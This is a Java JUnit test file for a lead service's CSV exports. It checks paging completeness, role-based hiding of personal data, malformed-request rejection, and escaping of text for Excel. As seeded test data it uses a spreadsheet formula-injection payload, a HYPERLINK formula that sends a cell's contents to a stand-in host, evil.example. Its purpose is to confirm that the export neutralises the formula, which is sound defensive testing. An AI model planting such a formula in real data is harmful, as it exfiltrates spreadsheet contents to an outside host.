package io.closedloop.lead.queries;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.InstanceOfAssertFactories.STRING;

import io.closedloop.lead.access.Role;
import io.closedloop.lead.http.Caller;
import io.closedloop.lead.http.Caller.Answer;
import io.closedloop.lead.http.FreshService;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** The lists as CSV: whole, whatever a page of them is, and with no more in them than their reader may see. */
class ListsAsCsvTest {
    /** More than a page of any of the lists. */
    private static final int LEADS = 1203;

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1)";

    @TempDir
    static Path data;

    private static FreshService service;
    private static Caller analyst;
    private static Caller team;
    private static long position;

    @BeforeAll
    static void start() throws IOException {
        service = FreshService.start(data);
        analyst = service.as(Role.ANALYST);
        team = service.as(Role.MARKETING, Role.MANAGER);
        String lines = IntStream.range(0, LEADS)
                .mapToObj(i -> """
                        {"command": "RegisterLead", "leadId": "%1$s", "contact": {"email": "person-%2$d@example.com"}, "attributes": {"size": %2$d}, \
                        "source": {"channel": "WEB", "campaign": "=HYPERLINK(\\"http://evil.example/?x=\\"&A1)", "sourcedBy": "MARKETING"}}
                        {"command": "DisqualifyLead", "leadId": "%1$s", "reason": "POOR_FIT"}
                        """.formatted(new UUID(7, i), i))
                .collect(Collectors.joining());
        Answer answer = team.send(
                "POST", "/v1/commands", lines.getBytes(StandardCharsets.UTF_8), "Content-Type", "application/x-ndjson");
        assertThat(answer.body().lines()).hasSize(2 * LEADS).allMatch(line -> line.contains("\"status\":20"));
        position = 2L * LEADS;
    }

    @AfterAll
    static void stop() {
        service.close();
    }

    private static List<String> lines(Caller caller, String path, String file) {
        String fresh = path + (path.contains("?") ? "&" : "?") + "minPosition=" + position;
        Answer answer = caller.get(fresh, "Accept", "text/csv");
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        assertThat(answer.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
        assertThat(answer.header("Content-Disposition")).isEqualTo("attachment; filename=\"%s\"".formatted(file));
        assertThat(answer.header("Vary")).startsWithIgnoringCase("accept,authorization");
        assertThat(answer.body()).endsWith("\r\n");
        return Arrays.asList(answer.body().split("\r\n"));
    }

    /** What the list says in JSON. */
    private static List<String> pageByPage(Caller caller, String path, String id) {
        var ids = new ArrayList<String>();
        @Nullable String cursor = "";
        while (cursor != null) {
            JsonNode page = caller.get(path + cursor).json();
            page.required("items").forEach(item -> ids.add(item.required(id).asString()));
            JsonNode next = page.get("nextCursor");
            cursor = next == null || next.isNull()
                    ? null
                    : (path.contains("?") ? "&" : "?") + "cursor=" + next.asString();
        }
        return ids;
    }

    @Test
    void theListOfLeadsIsWholeAndTheNewestComeFirst() {
        List<String> lines = lines(team, "/v1/leads", "leads.csv");
        assertThat(lines).hasSize(LEADS + 1);
        assertThat(lines.getFirst()).isEqualTo(String.join(",", LeadTable.COLUMNS));
        assertThat(lines.subList(1, lines.size()).stream().map(line -> line.substring(0, 36)))
                .containsExactlyElementsOf(pageByPage(team, "/v1/leads", "leadId"));
        assertThat(lines)
                .filteredOn(line -> line.startsWith(new UUID(7, 1202).toString()))
                .singleElement(STRING)
                .contains("person-1202@example.com", "\"{\"\"size\"\":1202}\"", "'=HYPERLINK");
        assertThat(lines(team, "/v1/leads?limit=3", "leads.csv")).hasSize(4);
        assertThat(lines(team, "/v1/leads?attr=size:7", "leads.csv")).hasSize(2);
    }

    @Test
    void textsAreWrittenAsTheyAreForProgramsAndBehindAMarkForExcel() {
        String raw = lines(team, "/v1/leads?limit=1&csv=raw", "leads.csv").get(1);
        assertThat(raw).contains('"' + FORMULA.replace("\"", "\"\"") + '"');
        List<String> excel = lines(team, "/v1/leads?limit=1&csv=excel&separator=;", "leads.csv");
        assertThat(excel.getFirst()).isEqualTo("\ufeff" + String.join(";", LeadTable.COLUMNS));
    }

    @Test
    void whoMayNotSeePersonalDataGetsNoneInCsvEither() {
        List<String> lines = lines(analyst, "/v1/leads", "leads.csv");
        assertThat(lines).hasSize(LEADS + 1).noneMatch(line -> line.contains("example.com"));
    }

    @Test
    void theSuppressionsAreAllThere() {
        List<String> lines = lines(analyst, "/v1/suppressions?active=true", "suppressions.csv");
        assertThat(lines).hasSize(LEADS + 1).doesNotHaveDuplicates();
        assertThat(lines.getFirst()).startsWith("suppressionId,leadId,kind,hash,base,reason,");
        assertThat(lines.subList(1, lines.size()).stream().map(line -> line.substring(0, 36)))
                .containsExactlyElementsOf(pageByPage(analyst, "/v1/suppressions?active=true", "suppressionId"));
        assertThat(lines)
                .filteredOn(line -> line.contains(new UUID(7, 1202).toString()))
                .singleElement(STRING)
                .contains(",EMAIL,", ",POOR_FIT,");
        assertThat(lines(analyst, "/v1/suppressions?active=false", "suppressions.csv"))
                .hasSize(1);
    }

    @Test
    void theLeadsBehindANumberAreAsManyAsItSays() {
        String number = "/v1/reports/campaigns/leads?groupBy=&column=leads";
        List<String> lines = lines(analyst, number, "campaigns-leads.csv");
        assertThat(lines).hasSize(LEADS + 1).doesNotHaveDuplicates();
        assertThat(lines.getFirst()).isEqualTo("leadId,pass,position,suppressionId,amount,currency,seconds");
        assertThat(lines.subList(1, lines.size()).stream().map(line -> line.substring(0, 36)))
                .containsExactlyElementsOf(pageByPage(analyst, number, "leadId"));
        assertThat(lines.subList(1, lines.size())).allMatch(line -> line.matches("[0-9a-f-]{36},1,[0-9]+,,,,"));
        assertThat(lines(analyst, number + "&limit=5", "campaigns-leads.csv")).hasSize(6);
    }

    @Test
    void whatIsWrongIsRefusedBeforeAnythingIsWritten() throws IOException {
        for (String wrong : List.of(
                "/v1/leads?csv=tsv",
                "/v1/leads?separator=x",
                "/v1/leads?cursor=x",
                "/v1/suppressions?csv=",
                "/v1/reports/campaigns/leads?column=nothing")) {
            Answer answer = analyst.get(wrong, "Accept", "text/csv, application/problem+json");
            assertThat(answer.status()).as("%s: %s", wrong, answer.body()).isEqualTo(400);
            assertThat(answer.code()).isEqualTo("malformed-request");
        }
        for (String list :
                List.of("/v1/leads?", "/v1/suppressions?", "/v1/reports/campaigns/leads?groupBy=&column=leads&")) {
            for (String form : List.of("csv=raw", "separator=;")) {
                Answer answer = analyst.get(list + form, "Accept", "application/json");
                assertThat(answer.status()).as(list + form).isEqualTo(400);
                assertThat(answer.json()
                                .required("errors")
                                .required(0)
                                .required("pointer")
                                .asString())
                        .isEqualTo("?" + form.substring(0, form.indexOf('=')));
            }
        }
        assertThat(service.admin().get("/v1/leads", "Accept", "text/csv").status())
                .isEqualTo(403);
    }
}
